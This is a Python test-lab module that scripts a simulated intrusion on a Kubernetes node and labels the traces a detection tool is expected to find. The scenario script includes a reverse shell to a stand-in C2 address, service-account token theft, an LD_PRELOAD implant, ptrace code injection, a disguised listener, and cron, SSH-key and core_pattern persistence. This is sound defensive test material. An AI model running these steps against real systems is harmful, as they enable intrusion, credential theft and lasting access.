# SPDX-License-Identifier: Apache-2.0
"""A second intruded node, with other techniques than tests/lab/pods.py has, and the labels of what they leave.

It was made to be read once: the labels were committed before memir had read it, and the figures are in
docs/reference/precision.md. A shell on a connection out, a preload from a pod's volume, a program in /dev/shm, code
that was made executable afterwards, a ptrace into another pod with code that it changed, a door in a sidecar, a job, a
key and a program left through a hostPath and started on the node, core dumps to a program of a pod's, another pod's
token.
"""

from __future__ import annotations

import shlex
import shutil
import subprocess
from pathlib import Path
from typing import Any

from tests.findings.labels.make import Label, label
from tests.images import small_records
from tests.lab import pods
from tests.lab.documents import api_pod, token, write_container, write_token
from tests.lab.pods import AGENT, WEB, Container, Pod, container_id
from tests.lab.scenario import pod_words

HERE = Path(__file__).parent / "small"
CART = Pod(
    "cart-6b8d5f7c9-kx2lp", "shop", "12121212-3434-4343-8343-0123456789ab", "10.0.1.106",
    (Container(container_id("G-cart"), "cart", ("/app/server", "9000"), 61, volumes=(("cache", "/cache"),),
               image="registry.example/shop/cart:2.0.1"),),
    60, "Burstable", ("ReplicaSet", "cart-6b8d5f7c9"), labels={"app": "cart", "pod-template-hash": "6b8d5f7c9"},
)  # fmt: skip
COLLECTOR = Pod(
    "log-collector-7hq4z", "kube-system", "56565656-7878-4787-8787-0123456789ab", "10.0.1.107",
    (Container(container_id("H-collector"), "collector", ("sleep", "1000000"), 71, privileged=True,
               volumes=(("/", "/host"),), image=pods.BUSYBOX),),
    70, owner=("DaemonSet", "log-collector"), service_account="log-collector", labels={"app": "log-collector"},
    host_pid=True,
)  # fmt: skip
PODS = (WEB, CART, COLLECTOR, AGENT)
C2 = "198.51.100.23"
_CART, _COLLECTOR, _WEB, _SIDECAR = CART.containers[0], COLLECTOR.containers[0], *WEB.containers
_BUNDLE = "/run/containerd/io.containerd.runtime.v2.task/k8s.io"
_ALL = "mnt,pid,net,ipc,uts,cgroup"
TOOLS = ("kubectl", "aws", "nmap", "masscan", "curl", "wget", "python3", "perl", "gcc", "socat", "ncat", "docker",
         "crictl", "xmrig")  # fmt: skip


def _pid(container: Container) -> str:
    return f"$(busybox cat {_BUNDLE}/{container.id}/init.pid)"


def _enter(pod: Pod, container: Container, *args: str, env: str = "", kinds: str = _ALL) -> str:
    more = f" env={env}" if env else ""
    words = shlex.join(args) if not args[-1].startswith("$(") else f"{shlex.join(args[:-1])} {args[-1]}"
    return f"enter cg={pod.cgroup(container)} pid={_pid(container)} ns={kinds}{more} -- {words}"


def _copied(container: Container, path: str, program: str = "/bin/second") -> str:
    """Put a program into a running container, as `kubectl cp` or a download does: onto its own file system."""
    return f"T=/proc/{_pid(container)}/root{path}; busybox mkdir -p ${{T%/*}}; busybox cp {program} $T"


def script() -> str:
    """scenario.sh: pods first, then the intruder."""
    link = f"eni{CART.uid[:11]}"
    cache = f"/var/lib/kubelet/pods/{CART.uid}/volumes/kubernetes.io~empty-dir/cache"
    lookups = "; ".join(f"command -v {tool}" for tool in TOOLS)
    lines = [
        "# made by tests/lab/second.py",
        "busybox mkdir -p /etc/cron.d /root /opt /var/log; echo 'root:x:0:0::/root:/bin/sh' >/etc/passwd",
        *(f"{pod_words(pod)} || echo {pod.name} FAILED" for pod in PODS),
        "busybox sleep 2",
        # the other end of the connection is on the node only while it is made: the link is down before it goes
        f"busybox ip addr add 169.254.1.1/32 dev {link}; busybox ip route add {CART.ip}/32 dev {link}",
        f"busybox ip addr add {C2}/32 dev lo",
        "busybox tail -f /dev/null | busybox nc -l -p 443 >/dev/null & N=$!",
        "busybox sleep 2",
        _copied(_CART, "/tmp/.sess"), _enter(CART, _CART, "/tmp/.sess", "revsh", C2, "443"),
        "busybox sleep 4",
        f"busybox ip link set {link} down; busybox kill $N; busybox pkill -f 'tail -f /dev/null'",
        f"busybox ip addr del {C2}/32 dev lo",
        _enter(CART, _CART, "/bin/sh", "-c", lookups),
        _enter(CART, _CART, "/tmp/.sess", "hold", env="/spec/stolen"),
        _copied(_CART, "/dev/shm/.kdev"), _enter(CART, _CART, "/dev/shm/.kdev", "hold"),
        f"busybox cp /bin/libaudit.so {cache}/libaudit.so",
        _enter(CART, _CART, "/app/ticker", env="/spec/preload"),
        _copied(_SIDECAR, "/tmp/.w"), _enter(WEB, _SIDECAR, "/tmp/.w", "listen", "31337"),
        _enter(WEB, _SIDECAR, "/tmp/.w", "kthread", "jbd2/nvme0n1p1-"),
        _copied(_COLLECTOR, "/tmp/.t"), _enter(COLLECTOR, _COLLECTOR, "/tmp/.t", "cron", "/host"),
        _enter(COLLECTOR, _COLLECTOR, "/tmp/.t", "core"),
        _enter(COLLECTOR, _COLLECTOR, "/tmp/.t", "trace", _pid(_WEB)),
        "busybox sleep 2",
        "enter cg=system.slice/cron.service -- /opt/.sys/updater hold",
        "busybox grep -q '^|/proc/%P/root/tmp/.h' /proc/sys/kernel/core_pattern || echo core_pattern FAILED",
        "[ -s /root/.ssh/authorized_keys ] && [ -s /etc/cron.d/sysstat-update ] || echo cron FAILED",
    ]  # fmt: skip
    return "\n".join(lines) + "\n"


def write(folder: Path) -> None:
    """Everything below a folder that is laid over the guest's root: the script, what runtime and kubelet write."""
    (folder / "scenario.sh").write_text(script())
    spec = folder / "spec"
    spec.mkdir()
    for pod in PODS:
        write_token(spec, pod)
        for container in (pod.sandbox, *pod.containers):
            write_container(spec, pod, container)
    (spec / "stolen").write_text(f"KUBE_TOKEN={token(COLLECTOR)}\n")
    (spec / "preload").write_text("LD_PRELOAD=/cache/libaudit.so\n")
    _programs(folder)


def _programs(folder: Path) -> None:
    """The intruder's, and a dynamic one of the image with its loader, without which nothing can be preloaded."""
    bin_, app = folder / "bin", folder / "layers" / "app" / "app"
    bin_.mkdir()
    app.mkdir(parents=True)
    _cc("-static", "-w", "-o", bin_ / "second", HERE / "second.c")
    _cc("-w", "-x", "c", "-o", app / "ticker", "-", text="#include <unistd.h>\nint main(void){for(;;)sleep(60);}\n")
    _cc("-w", "-shared", "-fPIC", "-x", "c", "-o", bin_ / "libaudit.so", "-",
        text="#include <unistd.h>\nunsigned sleep(unsigned n){for(;;)pause();return n;}\n")  # fmt: skip
    for wanted in ("/lib64/ld-linux-x86-64.so.2", "/lib/x86_64-linux-gnu/libc.so.6"):
        there = folder / "layers" / "base" / wanted[1:]
        there.parent.mkdir(parents=True, exist_ok=True)
        shutil.copy(Path(wanted).resolve(), there)


def _cc(*words: str | Path, text: str | None = None) -> None:
    subprocess.run(["gcc", "-O2", *map(str, words)], input=text, text=True, check=True)


def pods_json() -> dict[str, Any]:
    """`kubectl get pods -A -o json`."""
    return {"apiVersion": "v1", "items": [api_pod(pod) for pod in PODS], "kind": "List", "metadata": {}}


def _pids(truth: Path) -> dict[str, int]:
    """The intruder's processes by their first words; the one that wiped its arguments by its name."""
    pids: dict[str, int] = {}
    for record in small_records(truth)["proc"]:
        words = record.get("cmdline", "").rstrip("\0").replace("\0", " ")
        pids.setdefault(words or record["comm"], record["pid"])
    return pids


def labels(truth: Path) -> list[Label]:
    """What should be found, from the guest's own account; severities as a person on call would want them."""
    pids = _pids(truth)
    cart, web, collector = (f"{pod.namespace}/{pod.name}" for pod in (CART, WEB, COLLECTOR))
    shell, thief = pids["sh -i"], pids["/tmp/.sess hold"]
    return [
        label("shell-on-socket", "high", cart, "cart", pid=shell),
        label("history-off", "low", cart, "cart", pid=shell),
        label("toolset-lookups", "low", cart, "cart"),
        label("created-executable", "medium", None, None, path="/tmp/.sess"),
        label("other-credentials", "high", cart, "cart", pid=thief),
        label("anonymous-executable-memory", "medium", cart, "cart", pid=thief),
        label("anonymous-executable-memory", "medium", cart, "cart", pid=pids["/dev/shm/.kdev hold"]),
        label("created-executable", "medium", None, None, path="/dev/shm/.kdev"),
        label("preload", "medium", cart, "cart", pid=pids["/app/ticker"]),
        label("unexpected-listener", "medium", web, "sidecar", pid=pids["/tmp/.w listen 31337"]),
        label("created-executable", "medium", None, None, path="/tmp/.w"),
        label("kernel-thread-name", "high", web, "sidecar", pid=pids["jbd2/nvme0n1p1-"]),
        label("traced", "medium", None, None),
        label("modified-code", "high", web, "web", pid=pids["/app/server 8080"]),
        label("created-executable", "medium", None, None, path="/tmp/.t"),
        label("persistence", "medium", None, None, path="/etc/cron.d/sysstat-update"),
        label("persistence", "medium", None, None, path="/root/.ssh/authorized_keys"),
        label("program-from-host-path", "medium", None, None, pid=pids["/opt/.sys/updater hold"]),
        label("usermode-helper", "high"),
        label("host-path", "low", collector, "collector"),
    ]
